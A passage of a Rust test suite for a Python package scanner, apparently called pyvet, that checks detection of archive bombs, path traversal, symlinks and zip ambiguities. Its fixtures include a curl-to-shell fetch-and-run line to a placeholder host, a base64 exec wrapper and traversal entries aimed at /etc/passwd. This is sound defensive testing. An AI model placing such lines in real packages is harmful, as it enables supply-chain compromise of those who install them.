    match r {
        Err(ArchiveError::Malformed { message, .. }) => {
            assert!(message.contains("a.py"), "{message}")
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn many_tiny_entries_hit_the_entry_limit_quickly() {
    let entries: Vec<ZEntry> = (0..100_000)
        .map(|i| ZEntry::new(&format!("p/{i}.txt"), b"").stored())
        .collect();
    let bytes = zip(&entries);
    let limits = Limits {
        max_entries: 5_000,
        ..Limits::default()
    };
    let c = read_artifact("many.zip", &bytes, &limits).unwrap();
    assert_eq!(
        c.entries.len(),
        5_000,
        "{:?}",
        &c.findings[..c.findings.len().min(3)]
    );
    assert_eq!(rules(&c), vec!["archive-bomb"]);
    // Under the default limit all of them are read.
    let c = read("many.zip", &bytes);
    assert_eq!(c.entries.len(), 100_000);
    assert!(c.findings.is_empty());
}

#[test]
fn long_paths_are_limited() {
    let long = format!("pkg/{}.py", "a".repeat(2000));
    let c = read(
        "x.zip",
        &zip(&[ZEntry::new(&long, b"x"), ZEntry::new("ok.py", b"")]),
    );
    assert_eq!(paths(&c), vec!["ok.py"]);
    assert_eq!(find(&c, "archive-bomb").severity, Severity::Medium);
}

#[test]
fn truncated_or_foreign_bytes_are_malformed_errors() {
    let bytes = zip(&wheel_entries(&[("demo/a.py", b"a = 1\n")]));
    for cut in [0, 10, bytes.len() / 2, bytes.len() - 1] {
        match read_artifact(WHEEL, &bytes[..cut], &Limits::default()) {
            Err(ArchiveError::Malformed { filename, .. }) => assert_eq!(filename, WHEEL),
            other => panic!("cut at {cut}: expected Malformed, got {other:?}"),
        }
    }
    let err = read_artifact(WHEEL, b"<html>not a wheel</html>", &Limits::default()).unwrap_err();
    assert!(err.to_string().contains(WHEEL), "{err}");
    assert!(matches!(
        read_artifact("x.exe", b"MZ", &Limits::default()),
        Err(ArchiveError::Unsupported { .. })
    ));
    for name in ["x.tar.gz", "x.tar.bz2", "x.tar.xz"] {
        assert!(matches!(
            read_artifact(name, b"plain text", &Limits::default()),
            Err(ArchiveError::Malformed { .. })
        ));
    }
}

// ------------------------------------------------------------------------------------------
// Tarballs.

struct T<'a> {
    name: &'a [u8],
    kind: tar::EntryType,
    data: &'a [u8],
    link: Option<&'a [u8]>,
}

fn t<'a>(name: &'a str, data: &'a [u8]) -> T<'a> {
    T {
        name: name.as_bytes(),
        kind: tar::EntryType::Regular,
        data,
        link: None,
    }
}

fn raw_tar(entries: &[T<'_>]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        append(&mut b, e.name, e.kind, e.data.len() as u64, e.data, e.link);
    }
    b.into_inner().unwrap()
}

fn append<W: Write>(
    b: &mut tar::Builder<W>,
    name: &[u8],
    kind: tar::EntryType,
    size: u64,
    data: impl Read,
    link: Option<&[u8]>,
) {
    let mut h = tar::Header::new_gnu();
    {
        let old = h.as_old_mut();
        old.name = [0; 100];
        old.name[..name.len()].copy_from_slice(name);
    }
    h.set_size(size);
    h.set_mode(0o644);
    h.set_entry_type(kind);
    if let Some(l) = link {
        h.set_link_name_literal(l).unwrap();
    }
    if matches!(kind, tar::EntryType::Char | tar::EntryType::Block) {
        h.set_device_major(1).unwrap();
        h.set_device_minor(3).unwrap();
    }
    h.set_cksum();
    b.append(&h, data).unwrap();
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn bz2(data: &[u8]) -> Vec<u8> {
    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn xz(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    lzma_rs::xz_compress(&mut &data[..], &mut out).unwrap();
    out
}

const PKG_INFO: &[u8] = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nAuthor: Someone\n";

fn sdist_tar() -> Vec<u8> {
    raw_tar(&[
        T {
            kind: tar::EntryType::Directory,
            ..t("demo-1.0/", b"")
        },
        t("demo-1.0/PKG-INFO", PKG_INFO),
        t(
            "demo-1.0/setup.py",
            b"from setuptools import setup\nsetup()\n",
        ),
        t("./demo-1.0/demo/__init__.py", b"x = 1\n"),
    ])
}

/// Findings as comparable text.
fn finding_lines(findings: &[pyvet::finding::Finding]) -> Vec<String> {
    findings
        .iter()
        .map(|f| {
            format!(
                "{} {:?} {:?} {:?} {}",
                f.rule, f.severity, f.location.path, f.location.line, f.message
            )
        })
        .collect()
}

#[test]
fn streamed_inspection_equals_reading_then_inspecting() {
    use pyvet::inspect::{inspect, read_and_inspect, InspectOptions};
    let hook = b"import os\nos.system('curl https://x.example.invalid/a | sh')\n";
    // The in-tree backend's code comes before the pyproject.toml that makes it build code, so
    // the streamed pass first sees it as an ordinary module and must inspect it again.
    let mut entries = vec![
        t("demo-1.0/_build/backend.py", hook),
        t("demo-1.0/demo/__init__.py", hook),
        t("demo-1.0/PKG-INFO", PKG_INFO),
    ];
    let filler: Vec<String> = (0..40)
        .map(|i| format!("def f{i}(x):\n    return x + {i}\n"))
        .collect();
    let names: Vec<String> = (0..filler.len())
        .map(|i| format!("demo-1.0/demo/m{i}.py"))
        .collect();
    for (name, code) in names.iter().zip(&filler) {
        entries.push(t(name, code.as_bytes()));
    }
    entries.push(t(
        "demo-1.0/pyproject.toml",
        b"[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
    ));
    let bytes = gz(&raw_tar(&entries));
    let opts = InspectOptions::default();
    let (outcome, streamed) =
        read_and_inspect("demo-1.0.tar.gz", &bytes, &ReadOptions::default(), &opts).unwrap();
    let contents = read("demo-1.0.tar.gz", &bytes);
    let two_step = inspect(&contents, &opts);
    assert_eq!(finding_lines(&streamed), finding_lines(&two_step));
    assert_eq!(outcome.contents.entries.len(), contents.entries.len());
    let label = |path: &str| {
        streamed
            .iter()
            .find(|f| f.rule == "shell-downloader" && f.location.path.as_deref() == Some(path))
            .map(|f| f.message.clone())
            .unwrap_or_else(|| panic!("no finding for {path}: {streamed:#?}"))
    };
    assert_ne!(
        label("demo-1.0/_build/backend.py"),
        label("demo-1.0/demo/__init__.py"),
        "the backend file is graded as build code, not as an imported module"
    );
}

#[test]
fn streamed_zip_inspection_equals_inspecting_what_was_kept() {
    use pyvet::inspect::{inspect, read_and_inspect, InspectOptions};
    // Every file has a finding; the files differ in size so that the largest-first schedule
    // differs from archive order.
    let files: Vec<(String, Vec<u8>)> = (0..24)
        .map(|i| {
            let mut code =
                format!("import os\nos.system('curl https://x{i}.example.invalid/a | sh')\n");
            code.push_str(&"x = 1\n".repeat(i * 50));
            (format!("pkg/m{i}.py"), code.into_bytes())
        })
        .collect();
    let entries: Vec<ZEntry> = files.iter().map(|(n, d)| ZEntry::new(n, d)).collect();
    let bytes = zip(&entries);
    let opts = InspectOptions::default();
    let check = |read_opts: &ReadOptions| {
        let (outcome, streamed) =
            read_and_inspect("pkg-1.0-py3-none-any.whl", &bytes, read_opts, &opts).unwrap();
        let again = inspect(&outcome.contents, &opts);
        assert_eq!(finding_lines(&streamed), finding_lines(&again));
        let kept = outcome.contents.entries.len();
        let with_code = streamed
            .iter()
            .filter(|f| f.rule == "shell-downloader")
            .count();
        assert_eq!(
            with_code, kept,
            "one finding per kept file, none for dropped ones"
        );
        kept
    };
    assert_eq!(check(&ReadOptions::default()), files.len());
    // A total-size limit stops the read part way: files inflated (and observed) before the
    // collector gave up must not contribute findings.
    let mut limited = ReadOptions::default();
    limited.limits.max_total_size = 2_000;
    assert!(check(&limited) < files.len());
}

#[test]
fn sdists_in_every_compression_read_alike() {
    let tar = sdist_tar();
    for (name, bytes) in [
        ("demo-1.0.tar", tar.clone()),
        ("demo-1.0.tar.gz", gz(&tar)),
        ("demo-1.0.tgz", gz(&tar)),
        ("demo-1.0.tar.bz2", bz2(&tar)),
        ("demo-1.0.tar.xz", xz(&tar)),
    ] {
        let c = read(name, &bytes);
        assert!(c.findings.is_empty(), "{name}: {:#?}", c.findings);
        assert_eq!(
            paths(&c),
            vec![
                "demo-1.0/PKG-INFO",
                "demo-1.0/setup.py",
                "demo-1.0/demo/__init__.py"
            ],
            "{name}"
        );
        assert_eq!(
            *c.entries[1].data,
            b"from setuptools import setup\nsetup()\n"
        );
        let md = c.metadata.as_ref().expect(name);
        assert_eq!(md.name.as_deref(), Some("demo"));
        assert_eq!(md.author.as_deref(), Some("Someone"));
    }
}

#[test]
fn tar_links_devices_and_unsafe_names() {
    use tar::EntryType as E;
    let tar = raw_tar(&[
        T {
            kind: E::Symlink,
            link: Some(b"../../../etc/passwd"),
            ..t("demo/out", b"")
        },
        T {
            kind: E::Symlink,
            link: Some(b"README"),
            ..t("demo/in", b"")
        },
        T {
            kind: E::Link,
            link: Some(b"demo/setup.py"),
            ..t("demo/hard", b"")
        },
        T {
            kind: E::Char,
            ..t("demo/null", b"")
        },
        T {
            kind: E::Fifo,
            ..t("demo/fifo", b"")
        },
        t("../evil.py", b"x"),
        t("/etc/passwd", b"x"),
        t("C:\\x", b"x"),
        T {
            name: b"demo/\xff.py",
            ..t("", b"x")
        },
        t("demo/setup.py", b"ok"),
    ]);
    let c = read("demo-1.0.tar.gz", &gz(&tar));
    assert_eq!(paths(&c), vec!["demo/setup.py"]);
    let sev = |rule: &str| -> Vec<Severity> {
        c.findings
            .iter()
            .filter(|f| f.rule == rule)
            .map(|f| f.severity)
            .collect()
    };
    use Severity::*;
    assert_eq!(
        sev("archive-link"),
        vec![High, Medium, Medium, High, Medium]
    );
    assert_eq!(sev("path-traversal"), vec![High; 4]);
    let dev = c
        .findings
        .iter()
        .find(|f| f.location.path.as_deref() == Some("demo/null"))
        .unwrap();
    assert!(dev.message.contains("device"));
}

#[test]
fn pax_and_gnu_long_names_are_checked_not_the_short_header_name() {
    use tar::EntryType as E;
    let pax = b"19 path=../evil.py\n";
    let long = b"../../long/evil.py\0";
    let tar = raw_tar(&[
        T {
            kind: E::XHeader,
            ..t("PaxHeader/safe.py", pax)
        },
        t("safe.py", b"import os"),
        T {
            kind: E::GNULongName,
            ..t("././@LongLink", long)
        },
        t("short.py", b"import os"),
        t("ok.py", b"ok"),
    ]);
    let c = read("x.tar.gz", &gz(&tar));
    assert_eq!(paths(&c), vec!["ok.py"]);
    let trav: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.rule == "path-traversal")
        .map(|f| f.location.path.clone().unwrap())
        .collect();
    assert_eq!(trav, vec!["../evil.py", "../../long/evil.py"]);
}

#[test]
fn repetitive_findings_are_capped_with_a_summary() {
    let names: Vec<String> = (0..35).map(|i| format!("zone/link{i}")).collect();
    let mut entries: Vec<T<'_>> = vec![t("zone/UTC", b"TZif")];
    entries.extend(names.iter().map(|n| T {
        kind: tar::EntryType::Link,
        link: Some(b"zone/UTC"),
        ..t(n, b"")
    }));
    let c = read("tz-1.0.tar.gz", &gz(&raw_tar(&entries)));
    let links: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.rule == "archive-link")
        .collect();
    assert_eq!(links.len(), pyvet::archive::MAX_SIMILAR_FINDINGS + 1);
    let summary = links.last().unwrap();
    assert_eq!(summary.message, "15 more similar findings not listed");
    assert_eq!(summary.severity, Severity::Medium);
    assert_eq!(summary.location.path, None);
}

#[test]
fn tar_bomb_is_stopped_early() {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    {
        let mut b = tar::Builder::new(&mut enc);
        let size = 40u64 << 20;
        append(
            &mut b,
            b"demo/zeros.py",
            tar::EntryType::Regular,
            size,
            std::io::repeat(0).take(size),
            None,
        );
        b.finish().unwrap();
    }
    let bytes = enc.finish().unwrap();
    assert!(bytes.len() < 300_000, "{}", bytes.len());
    let c = read("demo-1.0.tar.gz", &bytes);
    let f = find(&c, "archive-bomb");
    assert_eq!(f.severity, Severity::Critical, "{f:#?}");
    // Stopped at the per-file limit, not at the end of the zeros.
    let inflated = inflated_bytes(f);
    assert!(
        inflated <= Limits::default().max_file_size + (1 << 20),
        "inflated {inflated} bytes before stopping"
    );
    assert!(c.entries.is_empty());
}

#[test]
fn total_limit_stops_every_tar_compression_without_hanging() {
    let mut x = 0x1234_5678_9ABC_DEF1u64;
    let noise: Vec<u8> = (0..1_200_000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x % 16) as u8
        })
        .collect();
    let tar = raw_tar(&[t("d/noise.bin", &noise), t("d/after.py", b"x")]);
    let limits = Limits {
        max_total_size: 400_000,
        ..Limits::default()
    };
    for (name, bytes) in [
        ("d.tar", tar.clone()),
        ("d.tar.gz", gz(&tar)),
        ("d.tar.bz2", bz2(&tar)),
        ("d.tar.xz", xz(&tar)),
    ] {
        let c = read_artifact(name, &bytes, &limits).unwrap();
        let f = find(&c, "archive-bomb");
        assert!(f.message.contains("total"), "{name}: {f:#?}");
        assert!(c.entries.is_empty(), "{name}");
    }
}

#[test]
fn huge_gnu_long_name_is_not_read_into_memory() {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    {
        let mut b = tar::Builder::new(&mut enc);
        let size = 20u64 << 20;
        let long = std::io::repeat(b'a').take(size);
        append(
            &mut b,
            b"././@LongLink",
            tar::EntryType::GNULongName,
            size,
            long,
            None,
        );
        append(&mut b, b"x.py", tar::EntryType::Regular, 1, &b"x"[..], None);
        b.finish().unwrap();
    }
    let bytes = enc.finish().unwrap();
    let c = read("x.tar.gz", &bytes);
    let f = find(&c, "archive-bomb");
    assert!(f.message.contains("long name"), "{f:#?}");
    assert!(c.entries.is_empty());
    // A long name of ordinary length is fine.
    let mut b = tar::Builder::new(Vec::new());
    let name = format!("demo-1.0/{}/mod.py", "d".repeat(150));
    let mut h = tar::Header::new_gnu();
    h.set_size(2);
    b.append_data(&mut h, &name, &b"ok"[..]).unwrap();
    let c = read("x.tar", &b.into_inner().unwrap());
    assert!(c.findings.is_empty(), "{:#?}", c.findings);
    assert_eq!(paths(&c), vec![name.as_str()]);
}

#[test]
fn tar_header_lying_about_size_is_malformed_not_a_hang() {
    // Declares 8 GiB but holds one block.
    let mut h = tar::Header::new_gnu();
    h.set_path("a.py").unwrap();
    h.set_size(8 << 30);
    h.set_cksum();
    let mut bytes = h.as_bytes().to_vec();
    bytes.extend_from_slice(&[b'x'; 512]);
    let r = read_artifact("a.tar.gz", &gz(&bytes), &Limits::default());
    assert!(matches!(r, Err(ArchiveError::Malformed { .. })), "{r:?}");
}

#[test]
fn truncated_tarballs_are_malformed() {
    let tar = sdist_tar();
    for (name, bytes) in [
        ("demo-1.0.tar.gz", gz(&tar)),
        ("demo-1.0.tar.bz2", bz2(&tar)),
        ("demo-1.0.tar.xz", xz(&tar)),
    ] {
        let cut = &bytes[..bytes.len() / 2];
        match read_artifact(name, cut, &Limits::default()) {
            Err(ArchiveError::Malformed { filename, .. }) => assert_eq!(filename, name),
            other => panic!("{name}: {other:?}"),
        }
    }
}

#[test]
fn tar_entry_limit() {
    let names: Vec<String> = (0..3000).map(|i| format!("d/{i}.py")).collect();
    let entries: Vec<T<'_>> = names.iter().map(|n| t(n, b"")).collect();
    let limits = Limits {
        max_entries: 100,
        ..Limits::default()
    };
    let c = read_artifact("d.tar.gz", &gz(&raw_tar(&entries)), &limits).unwrap();
    assert_eq!(c.entries.len(), 100);
    assert_eq!(rules(&c), vec!["archive-bomb"]);
}

// ------------------------------------------------------------------------------------------
// Directories.

#[cfg(unix)]
#[test]
fn directory_walk_never_follows_symlinks() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("demo-1.0");
    std::fs::create_dir_all(root.join("demo/sub")).unwrap();
    std::fs::write(root.join("PKG-INFO"), PKG_INFO).unwrap();
    std::fs::write(root.join("demo/__init__.py"), b"x = 1\n").unwrap();
    std::fs::write(root.join("demo/sub/b.py"), b"y = 2\n").unwrap();
    let secret = tmp.path().join("secret.txt");
    std::fs::write(&secret, b"outside").unwrap();
    std::os::unix::fs::symlink(&secret, root.join("demo/leak.txt")).unwrap();
    std::os::unix::fs::symlink("sub/b.py", root.join("demo/alias.py")).unwrap();
    std::os::unix::fs::symlink(tmp.path(), root.join("demo/loop")).unwrap();
    let c = read_path(&root, &Limits::default()).unwrap();
    assert_eq!(c.filename, "demo-1.0");
    assert_eq!(
        paths(&c),
        vec!["PKG-INFO", "demo/__init__.py", "demo/sub/b.py"]
    );
    assert!(c.entries.iter().all(|e| *e.data != b"outside"));
    let links: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.rule == "archive-link")
        .map(|f| (f.location.path.clone().unwrap(), f.severity))
        .collect();
    assert_eq!(
        links,
        vec![
            ("demo/alias.py".to_string(), Severity::Medium),
            ("demo/leak.txt".to_string(), Severity::High),
            ("demo/loop".to_string(), Severity::High),
        ]
    );
    assert_eq!(c.metadata.unwrap().version.as_deref(), Some("1.0"));
    // read_path on a file reads it as an artifact.
    let whl = tmp.path().join(WHEEL);
    std::fs::write(&whl, zip(&wheel_entries(&[("demo/a.py", b"")]))).unwrap();
    let c = read_path(&whl, &Limits::default()).unwrap();
    assert_eq!(c.filename, WHEEL);
    assert!(c.findings.is_empty());
    assert!(matches!(
        read_path(&tmp.path().join("missing.whl"), &Limits::default()),
        Err(ArchiveError::Io { .. })
    ));
}

// ------------------------------------------------------------------------------------------
// Hostile bytes: mutate generated archives and require only that reading returns.

#[test]
fn mutated_archives_never_panic() {
    let wheel = zip(&wheel_entries(&[
        ("demo/__init__.py", b"import os\nprint(os.getcwd())\n"),
        ("demo/data.txt", &[b'z'; 3000]),
    ]));
    let wheel64 = zip_with(
        &wheel_entries(&[("demo/a.py", b"a")]),
        &ZipOpts {
            zip64: true,
            prefix: b"junk".to_vec(),
            ..Default::default()
        },
    );
    let tar = sdist_tar();
    let corpus: Vec<(&str, Vec<u8>)> = vec![
        (WHEEL, wheel),
        (WHEEL, wheel64),
        ("demo-1.0.tar", tar.clone()),
        ("demo-1.0.tar.gz", gz(&tar)),
        ("demo-1.0.tar.bz2", bz2(&tar)),
        ("demo-1.0.tar.xz", xz(&tar)),
    ];
    let limits = Limits {
        max_total_size: 1 << 20,
        max_file_size: 1 << 19,
        ..Limits::default()
    };
    let mut x = 0x2545_F491_4F6C_DD1Du64;
    let mut next = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let mut ok = 0;
    for round in 0..1200 {
        let (name, base) = &corpus[round % corpus.len()];
        let mut bytes = base.clone();
        match next() % 4 {
            0 => bytes.truncate((next() as usize) % (bytes.len() + 1)),
            1 => {
                for _ in 0..1 + next() % 8 {
                    let i = next() as usize % bytes.len();
                    bytes[i] ^= 1 << (next() % 8);
                }
            }
            2 => {
                // Overwrite a little-endian field with an extreme value.
                let i = next() as usize % bytes.len().saturating_sub(4).max(1);
                let v = [0xFFu8, 0xFF, 0xFF, 0xFF];
                let end = (i + 4).min(bytes.len());
                bytes[i..end].copy_from_slice(&v[..end - i]);
            }
            _ => {
                let i = next() as usize % bytes.len();
                let j = next() as usize % bytes.len();
                let (a, b) = (i.min(j), i.max(j));
                bytes.drain(a..b.min(a + 64));
            }
        }
        if read_artifact(name, &bytes, &limits).is_ok() {
            ok += 1;
        }
    }
    // Both outcomes must occur, or the mutations are not exercising anything.
    assert!(ok > 0 && ok < 1200, "{ok}");
}

/// Manual check on real artifacts (not in CI: needs files from outside):
/// `PYVET_ARCHIVE_FILES=a.whl:b.tar.gz cargo test --test archive_formats real -- --ignored --nocapture`
#[test]
#[ignore]
fn real_artifacts_from_env() {
    let Ok(list) = std::env::var("PYVET_ARCHIVE_FILES") else {
        return;
    };
    for p in list.split(':').filter(|p| !p.is_empty()) {
        let path = std::path::Path::new(p);
        let Ok(bytes) = std::fs::read(path) else {
            continue;
        };
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let t = Instant::now();
        let out = match read_artifact_with(&name, &bytes, &ReadOptions::default()) {
            Ok(out) => out,
            Err(e) => {
                println!("{name}: error: {e}");
                continue;
            }
        };
        let kept: usize = out.contents.entries.iter().map(|e| e.data.len()).sum();
        println!(
            "{name}: {} entries, {} bytes inflated, {kept} kept, {} partial, {:?}",
            out.contents.entries.len(),
            out.total_size,
            out.partial.len(),
            t.elapsed()
        );
        for f in &out.contents.findings {
            println!(
                "  {} {} {:?} {}",
                f.severity, f.rule, f.location.path, f.message
            );
        }
        println!(
            "  metadata: {:?}",
            out.contents
                .metadata
                .as_ref()
                .map(|m| (&m.name, &m.version))
        );
    }
}

// ------------------------------------------------------------------------------------------
// Zip differentials: every name an installer could use, every byte a reader could install.

const EXEC_B64: &[u8] = b"import base64\nexec(base64.b64decode(\"aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBpbmVydC1zYW1wbGUnKQo=\"))\n";

/// Code findings (high or above) of an artifact, as `rule path` lines.
fn code_findings(filename: &str, bytes: &[u8]) -> Vec<String> {
    use pyvet::inspect::{read_and_inspect, InspectOptions};
    let (_, code) = read_and_inspect(
        filename,
        bytes,
        &ReadOptions::default(),
        &InspectOptions::default(),
    )
    .unwrap();
    code.iter()
        .filter(|f| f.severity >= Severity::High)
        .map(|f| format!("{} {}", f.rule, f.location.path.as_deref().unwrap_or("")))
        .collect()
}

#[test]
fn unicode_path_hiding_init_py_as_readme_is_inspected_as_code_and_blocks() {
    // Python 3.12+ installs `pkg/README.txt`, Python 3.11 `pkg/__init__.py` (which runs on
    // import): the bytes must be inspected as the code they are for 3.11.
    let mut e = ZEntry::new("pkg/__init__.py", EXEC_B64);
    e.unicode_path = Some(b"pkg/README.txt".to_vec());
    let bytes = zip(&[e, ZEntry::new("pkg/core.py", b"x = 1\n")]);
    let c = read("pkg-1.0-py3-none-any.whl", &bytes);
    assert!(paths(&c).contains(&"pkg/README.txt"));
    assert!(paths(&c).contains(&"pkg/__init__.py"));
    let f = find(&c, "archive-ambiguous");
    assert_eq!(
        f.severity,
        Severity::High,
        "a differential that hides code blocks"
    );
    assert!(f.evidence.as_deref().unwrap().contains("pkg/__init__.py"));
    let code = code_findings("pkg-1.0-py3-none-any.whl", &bytes);
    assert!(
        code.iter().any(|l| l.ends_with(" pkg/__init__.py")),
        "the code is inspected under the name Python 3.11 installs: {code:?}"
    );

    // A large payload under a data name is still kept whole when another name is code.
    let mut big = EXEC_B64.to_vec();
    big.extend(b"# padding\n".repeat(200_000));
    let mut e = ZEntry::new("pkg/__init__.py", &big);
    e.unicode_path = Some(b"pkg/blob.bin".to_vec());
    let o = read_artifact_with("x.whl", &zip(&[e]), &ReadOptions::default()).unwrap();
    let init = o
        .contents
        .entries
        .iter()
        .find(|e| e.path == "pkg/__init__.py")
        .unwrap();
    assert_eq!(init.data.len(), big.len());
}

#[test]
fn bad_crc_is_reported_and_graded_by_what_the_file_is() {
    let mut bytes = zip(&[
        ZEntry::new("pkg/a.py", b"a = 1\n").stored(),
        ZEntry::new("pkg/notes.txt", b"hello\n").stored(),
    ]);
    // Change one byte of each file's data: the recorded CRC no longer matches.
    for needle in [&b"a = 1"[..], b"hello"] {
        let at = memchr::memmem::find(&bytes, needle).unwrap();
        bytes[at] ^= 0x01;
    }
    let c = read("x.zip", &bytes);
    let crc: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.message.contains("CRC-32"))
        .map(|f| (f.location.path.as_deref().unwrap(), f.severity))
        .collect();
    assert_eq!(
        crc,
        vec![
            ("pkg/a.py", Severity::High),
            ("pkg/notes.txt", Severity::Medium)
        ]
    );
    // The bytes a lax extractor would install are the ones inspected.
    assert_eq!(*c.entries[0].data, b"` = 1\n");
}

#[test]
fn local_headers_missing_from_the_central_directory_are_inspected_and_reported() {
    let entries = [
        ZEntry::new("pkg/a.py", b"a = 1\n"),
        ZEntry::new("pkg/evil.py", EXEC_B64),
        ZEntry::new("pkg/a.py", EXEC_B64),
        ZEntry::new("notes.txt", b"only in a local header").descriptor(),
    ];
    let bytes = zip_with(
        &entries,
        &ZipOpts {
            unlisted: 3,
            ..Default::default()
        },
    );
    let c = read("pkg-1.0.zip", &bytes);
    let hidden: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.message.contains("does not list"))
        .map(|f| (f.location.path.as_deref().unwrap(), f.severity))
        .collect();
    assert_eq!(
        hidden,
        vec![
            ("pkg/evil.py", Severity::High),
            ("pkg/a.py", Severity::High),
            ("notes.txt", Severity::Medium)
        ]
    );
    assert_eq!(
        paths(&c),
        vec!["pkg/a.py", "pkg/evil.py", "pkg/a.py", "notes.txt"]
    );
    let notes = c.entries.iter().find(|e| e.path == "notes.txt").unwrap();
    assert_eq!(*notes.data, b"only in a local header");
    let code = code_findings("pkg-1.0.zip", &bytes);
    assert!(code.iter().any(|l| l.ends_with(" pkg/evil.py")), "{code:?}");

    // A zip stored inside a listed entry (a test fixture) is that entry's data, not hidden.
    let inner = zip(&[ZEntry::new("inner.py", b"x").stored()]);
    let c = read(
        "pkg-1.0.zip",
        &zip(&[ZEntry::new("tests/fixture.zip", &inner).stored()]),
    );
    assert!(c.findings.is_empty(), "{:#?}", c.findings);
}

#[test]
fn local_header_disagreeing_on_bytes_is_high_for_code() {
    let mut bytes = zip(&[ZEntry::new("pkg/a.py", b"a = 1\n").stored()]);
    // The local header says deflate: a streaming reader inflates different bytes.
    bytes[8] = 8;
    let c = read("x.zip", &bytes);
    let f = find(&c, "archive-ambiguous");
    assert_eq!(f.severity, Severity::High);
    assert!(f
        .evidence
        .as_deref()
        .unwrap()
        .contains("compression method 8"));
    // The same on a data file is medium.
    let mut bytes = zip(&[ZEntry::new("pkg/a.dat", b"a = 1\n").stored()]);
    bytes[8] = 8;
    assert_eq!(
        find(&read("x.zip", &bytes), "archive-ambiguous").severity,
        Severity::Medium
    );
}

#[test]
fn no_silent_fallback_between_header_offsets() {
    let prefix = vec![b'#'; 64];
    let mut bytes = zip_with(
        &[ZEntry::new("pkg/a.py", b"a = 1\n")],
        &ZipOpts {
            prefix: prefix.clone(),
            ..Default::default()
        },
    );
    // Make the entry's offset absolute while the directory's stays relative: Python adds the
    // prefix to it and finds no header; a reader taking the offset as is finds one.
    let central = memchr::memmem::find(&bytes, b"PK\x01\x02").unwrap();
    let off = u32::from_le_bytes(bytes[central + 42..central + 46].try_into().unwrap());
    bytes[central + 42..central + 46].copy_from_slice(&(off + 64).to_le_bytes());
    let c = read("x.zip", &bytes);
    let f = c
        .findings
        .iter()
        .find(|f| {
            f.evidence
                .as_deref()
                .is_some_and(|e| e.contains("without the 64 bytes"))
        })
        .unwrap_or_else(|| panic!("{:#?}", c.findings));
    assert_eq!(f.severity, Severity::High);
    assert_eq!(paths(&c), vec!["pkg/a.py"]);
}

#[test]
fn entry_ratio_counts_the_compressed_bytes_consumed_not_the_whole_entry() {
    // 64 MiB of zeros (about 64 KiB deflated) followed by 1 MiB of noise: the whole entry is
    // about 60:1, but its first megabytes come out at 1000:1.
    let mut data = vec![0u8; 64 << 20];
    let mut x = 1u32;
    data.extend((0..(1u32 << 20)).map(|_| {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        (x >> 16) as u8
    }));
    let bytes = zip(&[ZEntry::new("pkg/padded.txt", &data)]);
    assert!(
        bytes.len() > 1 << 20 && bytes.len() < 2 << 20,
        "{}",
        bytes.len()
    );
    let c = read("x.zip", &bytes);
    let f = find(&c, "archive-bomb");
    assert!(
        f.message.contains("entry compression ratio"),
        "{}",
        f.message
    );
    assert!(c.entries.is_empty());
    // The same bytes as a native library, kept only as a prefix (so costing no memory), are
    // held to the whole entry's ratio: real shared objects have long zero-filled sections.
    let c = read("x.zip", &zip(&[ZEntry::new("pkg/_native.so", &data)]));
    assert!(
        c.findings.iter().all(|f| f.rule != "archive-bomb"),
        "{:#?}",
        c.findings
    );
    assert_eq!(c.entries[0].data.len(), 4096);
}

/// About 1 MB of plausible Python (compresses well below the ratio limits).
fn plausible_code() -> Vec<u8> {
    (0..90_000u64)
        .flat_map(|i| format!("x{i} = {}\n", i.wrapping_mul(7919) % 100_003).into_bytes())
        .collect()
}

fn budget_findings(f: &[pyvet::finding::Finding]) -> Vec<&pyvet::finding::Finding> {
    f.iter()
        .filter(|f| f.rule == "archive-bomb" && f.message.contains("memory budget"))
        .collect()
}

/// A two-file wheel of plausible code (~1.8 MB inflated), and read options under a memory
/// budget of `limit` bytes.
fn budgeted_wheel(
    limit: u64,
) -> (
    Vec<u8>,
    Vec<u8>,
    std::sync::Arc<pyvet::archive::MemoryBudget>,
    ReadOptions,
) {
    let code = plausible_code();
    let bytes = zip(&[
        ZEntry::new("pkg/a.py", &code),
        ZEntry::new("pkg/b.py", &code),
    ]);
    let budget = std::sync::Arc::new(pyvet::archive::MemoryBudget::new(limit));
    let opts = ReadOptions {
        memory: Some(std::sync::Arc::clone(&budget)),
        ..ReadOptions::default()
    };
    (code, bytes, budget, opts)
}

#[test]
fn memory_budget_waits_for_others_instead_of_reporting_a_file_that_fits_alone() {
    use pyvet::inspect::{read_and_inspect, InspectOptions};
    // Each artifact needs ~1.8 MB; two at once do not fit in 3 MiB, one does.
    let (code, bytes, budget, opts) = budgeted_wheel(3 << 20);
    // Another artifact is in flight and holds 2 MiB when this read starts.
    let other = budget.hold(2 << 20).expect("fits");
    let reader = {
        let (bytes, opts) = (bytes.clone(), opts.clone());
        std::thread::spawn(move || {
            read_and_inspect(
                "y-1.0-py3-none-any.whl",
                &bytes,
                &opts,
                &InspectOptions::default(),
            )
        })
    };
    // The read loses a reservation to the other artifact and waits for its turn to read alone
    // (a condition, not a delay: the test does not depend on timing).
    while budget.waiting() == 0 && !reader.is_finished() {
        std::thread::yield_now();
    }
    assert_eq!(budget.contended_attempts(), 1);
    assert!(!reader.is_finished(), "the contended read waits");
    drop(other);
